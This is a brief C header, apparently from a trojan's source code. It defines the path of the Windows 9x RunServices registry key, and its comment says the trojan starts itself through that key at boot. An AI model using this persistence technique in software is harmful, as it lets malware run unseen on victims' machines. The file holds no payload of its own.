// The key whose values Windows 9x runs as services at start-up, and through
// which the trojan starts itself (under HKEY_LOCAL_MACHINE).
#pragma once

#define KX_RUNSERVICES_PATH "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunServices"
